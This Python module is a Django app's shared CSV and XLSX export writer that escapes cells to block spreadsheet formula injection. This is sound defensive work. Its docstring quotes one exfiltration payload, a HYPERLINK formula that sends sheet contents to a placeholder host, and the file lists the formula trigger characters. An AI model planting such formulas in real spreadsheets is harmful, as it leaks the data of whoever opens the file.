"""Every CSV and Excel (XLSX) file DMT sends goes through this one writer, so no export can
forget formula injection.

Formula injection (OWASP "CSV Injection", ASVS 1.2.10, CWE-1236): a spreadsheet runs a cell
whose text starts with "=", "+", "-" or "@" (and treats a leading tab, carriage return or NUL
as the start of one), so a family name typed as '=HYPERLINK("http://x/?"&A1,"Open")' sends
the sheet's contents away when a manager opens the export. Every text cell written here that
starts so gets a leading "'", which Excel and LibreOffice read as "this is text". So do cells
whose first visible character is a trigger behind spaces or invisible characters (" =1",
"\u200b=1"), or a full-width or other compatibility form of one ("＝1", Excel reads it as
"=" in East Asian locales). Control characters that spreadsheets and XML refuse are removed
first, so "\x00=1" cannot turn into "=1" on the way.

Figures stay numbers: an int, float or Decimal is written as a number, never quoted, so
"-1.5" as a change in score is a number, while "-1.5" typed as a name is text. In XLSX every
text cell is also stored as a string, never a formula, whatever it looks like.

Views send files with csv_response or xlsx_response: they add the byte-order mark Excel
needs to read UTF-8, the attachment's file name, and no-store caching, and return an
ExportResponse. A view that sends one is marked @export_view. The tests hold every export
to this: tests/test_every_export.py downloads each view so marked, and each URL that looks
like an export, with formula-like names in its records; tests/conftest.py fails any test
that downloads a spreadsheet that is not an ExportResponse from a marked view; and
tests/test_exports.py fails if any module but this one writes CSV or XLSX.

This module imports no app: every app may use it.
"""

from __future__ import annotations

import csv
import datetime
import decimal
import functools
import io
import math
import unicodedata
from collections.abc import Callable, Iterable
from typing import Any, cast

from django.http import HttpResponse
from django.utils import timezone
from django.utils.cache import patch_cache_control
from django.utils.http import content_disposition_header
from django.utils.text import slugify
from openpyxl import Workbook
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from .parsing import clean_text

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Content types a spreadsheet opens: a response with one of these must be an ExportResponse.
SPREADSHEET_CONTENT_TYPES = (
    "text/csv",
    "text/tab-separated-values",
    "application/csv",
    "application/vnd.ms-excel",
    "application/vnd.openxmlformats-officedocument.spreadsheetml",
    "application/vnd.oasis.opendocument.spreadsheet",
)

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")
_FORMULA_STARTS = frozenset("=+-@")
SHEET_TITLE_MAX = 31
_SHEET_FORBIDDEN = str.maketrans(dict.fromkeys("[]:*?/\\", " "))
_RESERVED_SHEETS = {"history"}  # Excel keeps this name for itself


# --- The escaping rule ----------------------------------------------------------------------


def _first_visible(text: str) -> str:
    """The first character that is not white space, a control or an invisible format
    character, in its compatibility form ("＝" is "="); "" when there is none."""
    for character in text:
        if character.isspace() or unicodedata.category(character) in ("Cc", "Cf", "Zs"):
            continue
        return unicodedata.normalize("NFKC", character)[:1]
    return ""


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could read `text` as a formula (see the module's docstring)."""
    if text.startswith(FORMULA_TRIGGERS):
        return True
    first = _first_visible(text)
    return first != "" and first in _FORMULA_STARTS


def safe_text(value: Any) -> str:
    """Text a spreadsheet will show, never run: control characters a spreadsheet or XML
    refuses removed (tab, newline and carriage return kept), then "'" before a formula."""
    text = clean_text(value)
    return "'" + text if is_formula_like(text) else text


def _is_number(value: Any) -> bool:
    if isinstance(value, bool):
        return False
    if isinstance(value, float):
        return math.isfinite(value)
    return isinstance(value, int | decimal.Decimal)


def cell_text(value: Any) -> str:
    """One CSV cell: a number as itself, a date as YYYY-MM-DD, a date and time as local
    "YYYY-MM-DD HH:MM", None as empty, and anything else as safe text."""
    if value is None:
        return ""
    if _is_number(value):
        return str(value)
    if isinstance(value, datetime.datetime):
        moment = timezone.localtime(value) if timezone.is_aware(value) else value
        return moment.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, datetime.date):
        return value.isoformat()
    return safe_text(value)


# --- CSV ------------------------------------------------------------------------------------


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """Rows of cells as CSV text (RFC 4180 quoting), each cell through cell_text. No
    byte-order mark: csv_response adds one for Excel; the command line leaves it off."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([cell_text(value) for value in row])
    return buffer.getvalue()


class ExportResponse(HttpResponse):
    """A CSV or XLSX file made by this module (tests check every spreadsheet is one)."""

    from_export_view = False


def export_view(view: Callable[..., HttpResponse]) -> Callable[..., HttpResponse]:
    """Mark a view that sends a CSV or XLSX file, so the tests find it (put it nearest the
    function, under the other decorators, which copy the mark)."""

    @functools.wraps(view)
    def wrapped(*args: Any, **kwargs: Any) -> HttpResponse:
        response = view(*args, **kwargs)
        if isinstance(response, ExportResponse):
            response.from_export_view = True
        return response

    # A mark on the function (like Django's csrf_exempt), which no type can declare.
    wrapped.sends_export = True  # type: ignore[attr-defined]
    return wrapped


def _file_name(name: str, extension: str) -> str:
    stem = slugify(name.rsplit(".", 1)[0] if name.endswith(f".{extension}") else name)
    return f"{stem or 'dmt-export'}.{extension}"


def _response(body: bytes | str, content_type: str, filename: str) -> ExportResponse:
    response = ExportResponse(body, content_type=content_type)
    response["Content-Disposition"] = content_disposition_header(True, filename)
    # An export is case data on someone's disk already; no cache should keep another copy.
    patch_cache_control(response, no_store=True, private=True)
    return response


def csv_response(rows: Iterable[Iterable[Any]], *, filename: str) -> ExportResponse:
    """Rows as a CSV attachment named `filename` (made safe, ".csv" added if missing)."""
    # The byte-order mark makes Excel read the file as UTF-8.
    body = "\ufeff" + csv_text(rows)
    return _response(body, CSV_CONTENT_TYPE, _file_name(filename, "csv"))


# --- XLSX -----------------------------------------------------------------------------------


def put_text(sheet: Worksheet, row: int, column: int, value: Any, *, bold: bool = False) -> None:
    """A text cell, stored as a string (never a formula) and escaped."""
    cell = sheet.cell(row=row, column=column)
    cell.value = safe_text(value)
    cell.data_type = "s"  # a string, whatever it looks like
    if bold:
        cell.font = Font(bold=True)


def put_number(
    sheet: Worksheet, row: int, column: int, value: int | float | decimal.Decimal, fmt: str
) -> None:
    """A numeric cell shown with Excel number format `fmt` (e.g. "#,##0", "0.0%")."""
    if not _is_number(value):
        raise TypeError(f"Not a number: {value!r}")
    sheet.cell(row=row, column=column, value=value).number_format = fmt


def sheet_title(title: str, taken: set[str]) -> str:
    """A valid, unique (case-insensitively, within `taken`, which it extends) sheet title."""
    cleaned = clean_text(title).translate(_SHEET_FORBIDDEN)
    base = " ".join(cleaned.split()).strip("'") or "Table"
    candidate = base[:SHEET_TITLE_MAX].strip()
    number = 2
    while candidate.lower() in taken or candidate.lower() in _RESERVED_SHEETS:
        suffix = f" ({number})"
        candidate = base[: SHEET_TITLE_MAX - len(suffix)].strip() + suffix
        number += 1
    taken.add(candidate.lower())
    return candidate


def text_width(text: str) -> int:
    return max((len(line) for line in text.splitlines()), default=0)


def fit_columns(sheet: Worksheet, widths: dict[int, int]) -> None:
    """Column widths from the longest text in each (column number: characters)."""
    for column, width in widths.items():
        sheet.column_dimensions[get_column_letter(column)].width = min(max(width + 2, 8), 60)


def new_workbook() -> Workbook:
    """An empty workbook, to fill with put_text and put_number."""
    return Workbook()


def first_sheet(workbook: Workbook) -> Worksheet:
    """The worksheet a new workbook starts with (openpyxl types `active` as any sheet)."""
    return cast(Worksheet, workbook.active)


def workbook_bytes(workbook: Workbook) -> bytes:
    """The workbook as an .xlsx file. Every text cell must have come through put_text."""
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def xlsx_response(workbook: Workbook | bytes, *, filename: str) -> ExportResponse:
    """A workbook as an XLSX attachment named `filename` (made safe, ".xlsx" added)."""
    body = workbook if isinstance(workbook, bytes) else workbook_bytes(workbook)
    return _response(body, XLSX_CONTENT_TYPE, _file_name(filename, "xlsx"))
